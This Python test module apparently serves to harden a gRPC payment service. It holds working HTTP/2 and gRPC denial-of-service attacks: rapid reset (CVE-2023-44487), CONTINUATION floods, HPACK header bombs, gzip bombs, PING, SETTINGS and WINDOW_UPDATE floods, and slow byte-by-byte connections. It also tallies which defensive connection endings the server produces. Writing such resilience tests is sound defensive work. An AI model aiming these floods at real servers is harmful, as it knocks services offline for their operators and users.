"""The attacks, each as one function of (address, size): how the server ended the attacker's connections, counted.

Sizes are frames, connections or bytes, as each attack says. What has a size is bounded by it; what waits for the
server to act is bounded by the caller's clock.
"""

import gzip
import struct
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from contextlib import AsyncExitStack
from dataclasses import dataclass
from itertools import islice
from typing import Final

import trio

from tests.campaign.attacker import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GREETING,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SETTINGS,
    Attacker,
    attacker,
    call,
    frame,
    message,
    window,
)

Endings = Counter[str]
BURST: Final = 500  # frames of one send
SHARE: Final = 2_500  # frames of one connection
PATIENCE_S: Final = 5.0
STREAM = "/causeway.v1.PaymentService/SubmitPayments"
LIST = "/causeway.v1.PaymentService/ListPayments"
WATCH = "/causeway.v1.PaymentService/WatchPayments"
UNKNOWN = "/causeway.v1.PaymentService/Nothing"


def opened(stream_id: int, method: str, *more: tuple[bytes, bytes]) -> bytes:
    return frame(HEADERS, END_HEADERS, stream_id, call(method, *more))


def asked(stream_id: int, method: str, body: bytes = b"") -> bytes:
    """A whole call with one message."""
    return opened(stream_id, method) + frame(DATA, END_STREAM, stream_id, message(body))


async def storm(address: str, frames: Iterable[bytes], first: bytes = b"", share: int = SHARE) -> Endings:
    """Sends all of them, over as many connections as it takes; one that is still alive a while after its share
    counts as "alive"."""
    endings: Endings = Counter()
    rest = iter(frames)
    while part := list(islice(rest, share)):
        async with attacker(address) as one:
            await one.send(first)
            for start in range(0, len(part), BURST):
                if not await one.send(b"".join(part[start : start + BURST])):
                    break
            endings[await last_word(one)] += 1
    return endings


async def last_word(one: Attacker) -> str:
    with trio.move_on_after(PATIENCE_S):
        return await one.ended()
    return "alive"


async def rapid_reset(address: str, size: int) -> Endings:
    """CVE-2023-44487: `size` calls opened and reset at once."""
    block, cancel = call(STREAM), struct.pack(">L", 8)
    endings: Endings = Counter()
    for _ in range(0, size, SHARE):
        ids = range(1, 2 * SHARE, 2)
        pairs = [frame(HEADERS, END_HEADERS, n, block) + frame(RESET, 0, n, cancel) for n in ids]
        endings += await storm(address, pairs)
    return endings


def flood(frame_of_it: bytes, first: bytes = b"") -> Callable[[str, int], Awaitable[Endings]]:
    """The same frame, `size` times."""

    async def attack(address: str, size: int) -> Endings:
        return await storm(address, (frame_of_it for _ in range(size)), first)

    return attack


def on_ended(frame_of_it: bytes) -> Callable[[str, int], Awaitable[Endings]]:
    """The same frame, `size` times, on a stream that is over."""

    async def attack(address: str, size: int) -> Endings:
        endings: Endings = Counter()
        for _ in range(0, size, SHARE):
            async with attacker(address) as one:
                await one.send(asked(1, UNKNOWN))
                await one.until(HEADERS, 1)
                await one.send(frame_of_it * SHARE)
                endings[await last_word(one)] += 1
        return endings

    return attack


async def continuations(address: str, size: int) -> Endings:
    """CVE-2024-27316: header blocks that never end, of full frames."""
    endless = (frame(CONTINUATION, 0, 1, bytes(16_000)) for _ in range(size))
    return await storm(address, endless, frame(HEADERS, 0, 1, call(LIST)))


async def header_bomb(address: str, size: int) -> Endings:
    """`size` blocks that unfold to 40 MB each: one entry of 4 KB, named ten thousand times."""
    entry = b"\x40\x01a\x7f\x81\x1e" + b"b" * 3_968
    return await storm(address, (frame(HEADERS, 5, 1, entry + b"\xbe" * 10_000) for _ in range(size)), share=1)


async def huge_header_list(address: str, size: int) -> Endings:
    """`size` blocks with one value of 15 KB more than may be, in the frames it takes."""
    block = call(LIST, (b"x-huge", b"v" * 31_000))
    whole = frame(HEADERS, END_STREAM, 1, block[:16_000]) + frame(CONTINUATION, END_HEADERS, 1, block[16_000:])
    return await storm(address, (whole for _ in range(size)), share=1)


async def many_headers(address: str, size: int) -> Endings:
    """`size` blocks with four thousand tiny fields."""
    block = call(LIST) + b"\x00\x01a\x01b" * 3_000
    return await storm(address, (frame(HEADERS, 5, 1, block) for _ in range(size)), share=1)


async def each(address: str, size: int, work: Callable[[Attacker], Awaitable[None]], **options: bytes) -> Endings:
    """`size` connections at once, each doing this; then all wait for the server's last word."""
    endings: Endings = Counter()

    async def one_of_them() -> None:
        async with attacker(address, **options) as one:  # type: ignore[arg-type]
            await work(one)
            endings[await one.ended()] += 1

    async with trio.open_nursery() as nursery:
        for _ in range(size):
            nursery.start_soon(one_of_them)
    return endings


def drip(whole: bytes, greet: bytes, every_s: float) -> Callable[[str, int], Awaitable[Endings]]:
    """`size` connections that say this byte by byte, until the server has had enough of it."""

    async def work(one: Attacker) -> None:
        for byte in whole:
            if not await one.send(bytes((byte,))):
                return
            with trio.move_on_after(every_s):
                await one.ended()

    async def attack(address: str, size: int) -> Endings:
        return await each(address, size, work, greet=greet)

    return attack


async def stalled(address: str, size: int) -> Endings:
    """`size` connections that say nothing at all: on the TLS door their handshake never begins."""

    async def work(_: Attacker) -> None:
        return

    return await each(address, size, work, greet=b"")


async def oversized(address: str, size: int) -> Endings:
    """`size` calls that announce a message of 4 GiB: each is RESOURCE_EXHAUSTED by its prefix."""
    endings: Endings = Counter()
    async with attacker(address) as one:
        for stream_id in range(1, 2 * size, 2):
            await one.send(opened(stream_id, STREAM) + frame(DATA, 0, stream_id, message(b"x", length=2**32 - 1)))
            await one.until(HEADERS, stream_id)
            endings[f"status {one.statuses.get(stream_id)}"] += 1
    return endings


async def gzip_bomb(address: str, size: int) -> Endings:
    """`size` messages of 60 KB that unfold to 60 MB: each is RESOURCE_EXHAUSTED by the length it announces."""
    return await bombs(address, size, gzip.compress(bytes(60_000_000)))


async def lying_bomb(address: str, size: int) -> Endings:
    """The same, but each says at its end that it holds 100 bytes: it is unfolded to the limit at most."""
    return await bombs(address, size, gzip.compress(bytes(60_000_000))[:-4] + struct.pack("<L", 100))


async def bombs(address: str, size: int, bomb: bytes) -> Endings:
    """`size` calls, one after another, with this compressed message."""
    whole = message(bomb, flag=1)
    endings: Endings = Counter()
    async with attacker(address) as one:
        for stream_id in range(1, 2 * size, 2):
            head = opened(stream_id, STREAM, (b"grpc-encoding", b"gzip"))
            parts = [whole[at : at + 16_000] for at in range(0, len(whole), 16_000)]
            await one.send(head + b"".join(frame(DATA, 0, stream_id, part) for part in parts))
            await one.until(HEADERS, stream_id)
            endings[f"status {one.statuses.get(stream_id)}"] += 1
    return endings


async def unfinished_messages(address: str, size: int) -> Endings:
    """`size` connections that leave almost whole messages of 4 MB on twenty streams each, and then wait."""
    part = bytes(16_000)
    async with AsyncExitStack() as stack:
        for _ in range(size):
            one = await stack.enter_async_context(attacker(address))
            for stream_id in range(1, 41, 2):
                whole = opened(stream_id, STREAM) + frame(DATA, 0, stream_id, message(b"", length=4_000_000))
                await one.send(whole)
                for _ in range(245):
                    with trio.move_on_after(0.5):
                        await one.send(frame(DATA, 0, stream_id, part))
    return Counter()


NO_WINDOW: Final = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 0))
PAGE_OF_THOUSAND: Final = b"\x08\xe8\x07"  # page_size = 1000


async def unread_pages(address: str, size: int) -> Endings:
    """`size` connections that ask for a hundred pages of a thousand payments each, and leave no window for them."""
    async with AsyncExitStack() as stack:
        attackers = []
        for _ in range(size):
            one = await stack.enter_async_context(attacker(address, greet=NO_WINDOW))
            await one.send(b"".join(asked(n, LIST, PAGE_OF_THOUSAND) for n in range(1, 200, 2)))
            attackers.append(one)
        for one in attackers:
            # The last in line is answered, or refused, once all before it were.
            with trio.move_on_after(30.0):
                await one.until(HEADERS, 199)
    return Counter()


async def unread_watches(address: str, size: int) -> Endings:
    """`size` connections with a hundred watchers from the beginning each, and no window for any."""
    async with AsyncExitStack() as stack:
        for _ in range(size):
            one = await stack.enter_async_context(attacker(address, greet=NO_WINDOW))
            await one.send(b"".join(asked(n, WATCH) for n in range(1, 200, 2)))
            with trio.move_on_after(30.0):
                await one.until(HEADERS, 199)
    return Counter()


async def never_reading(address: str, size: int) -> Endings:
    """`size` PINGs whose answers stay in the socket: the server stops at its backlog."""
    async with attacker(address, reads=False) as one:
        for _ in range(size // BURST):
            with trio.move_on_after(1.0) as waited:
                await one.send(frame(PING, 0, 0, bytes(8)) * BURST)
            if waited.cancelled_caught:
                break
    return Counter()


async def tiny_messages(address: str, size: int) -> Endings:
    """One stream of `size` empty instructions, each in a frame of its own."""
    empty = frame(DATA, 0, 1, message(b""))
    async with attacker(address) as one:
        await one.send(window(0, 2**30) + opened(1, STREAM) + window(1, 2**30))
        for _ in range(size // BURST):
            if not await one.send(empty * BURST):
                break
        await one.send(frame(DATA, END_STREAM, 1))
        while one.alive and 1 not in one.statuses:
            await one.news()
        return Counter([one.ending or f"status {one.statuses.get(1)}"])


async def scraps(address: str, size: int) -> Endings:
    """`size` bytes of one message, each in a frame of its own."""
    scrap = frame(DATA, 0, 1, b"x")
    return await storm(
        address, (scrap for _ in range(size)), opened(1, STREAM) + frame(DATA, 0, 1, message(b"", length=4_000_000))
    )


async def idle(address: str, size: int) -> Endings:
    """`size` connections that greet and do nothing more; one caller's share of them is served, the others are told to
    calm down."""
    endings: Endings = Counter()
    async with AsyncExitStack() as stack:
        for _ in range(size):
            one = await stack.enter_async_context(attacker(address))
            await one.until(SETTINGS, 0)
            endings[one.ending or "idle"] += 1
        return endings


@dataclass(frozen=True, slots=True)
class Attack:
    """`short` and `full` are sizes; a short one of 0 is left to the long run. `ends`: the only endings that count as
    a defence."""

    name: str
    run: Callable[[str, int], Awaitable[Endings]]
    short: int
    full: int
    ends: frozenset[str] = frozenset({"ENHANCE_YOUR_CALM"})
    door: str = "plaintext"


_ONE_SETTING: Final = struct.pack(">HL", 4, 65_535)
_HANGING: Final = opened(1, STREAM)
NONE: Final[frozenset[str]] = frozenset()
CLOSED: Final = frozenset({"closed"})
TOO_MUCH: Final = frozenset({"status 8"})

ATTACKS: Final = (
    Attack("rapid reset", rapid_reset, 5_000, 100_000),
    Attack("CONTINUATION flood", continuations, 200, 20_000),
    Attack("PING flood", flood(frame(PING, 0, 0, bytes(8))), 5_000, 100_000),
    Attack("SETTINGS flood", flood(frame(SETTINGS, 0, 0, _ONE_SETTING)), 5_000, 100_000),
    Attack("WINDOW_UPDATE flood", flood(window(0, 1)), 5_000, 100_000),
    Attack("WINDOW_UPDATE flood on a stream", flood(window(1, 1), _HANGING), 5_000, 100_000),
    Attack("empty DATA flood", flood(frame(DATA, 0, 1), _HANGING), 5_000, 100_000),
    Attack("PRIORITY flood", flood(frame(PRIORITY, 0, 1, struct.pack(">LB", 0, 1))), 5_000, 100_000),
    Attack("unknown frames", flood(frame(0xEE, 0, 0, b"unknown")), 5_000, 100_000),
    Attack("RST_STREAM on an ended stream", on_ended(frame(RESET, 0, 1, struct.pack(">L", 8))), 5_000, 100_000),
    Attack("WINDOW_UPDATE on an ended stream", on_ended(window(1, 1)), 5_000, 100_000),
    Attack("header bomb", header_bomb, 2, 500),
    Attack("huge header list", huge_header_list, 2, 500),
    Attack("many small headers", many_headers, 2, 500),
    Attack("oversized messages", oversized, 20, 500, TOO_MUCH),
    Attack("gzip bombs", gzip_bomb, 5, 200, TOO_MUCH),
    Attack("gzip bombs that lie", lying_bomb, 2, 100, TOO_MUCH),
    Attack("scraps of a message", scraps, 5_000, 100_000),
    Attack("tiny messages", tiny_messages, 2_000, 50_000, frozenset({"status 0"})),
    Attack("never reading", never_reading, 20_000, 200_000, NONE),
    Attack("unfinished messages", unfinished_messages, 1, 10, NONE),
    Attack("unread pages", unread_pages, 1, 10, NONE),
    Attack("unread watches", unread_watches, 1, 10, NONE),
    Attack("idle connections", idle, 100, 900, frozenset({"idle", "ENHANCE_YOUR_CALM"})),
    Attack("TLS handshakes that never begin", stalled, 0, 2_000, CLOSED, "tls"),
    Attack("preface byte by byte", drip(GREETING, b"", 1.0), 0, 100),
    Attack("headers byte by byte", drip(_HANGING * 10, GREETING, 1.0), 0, 100),
)
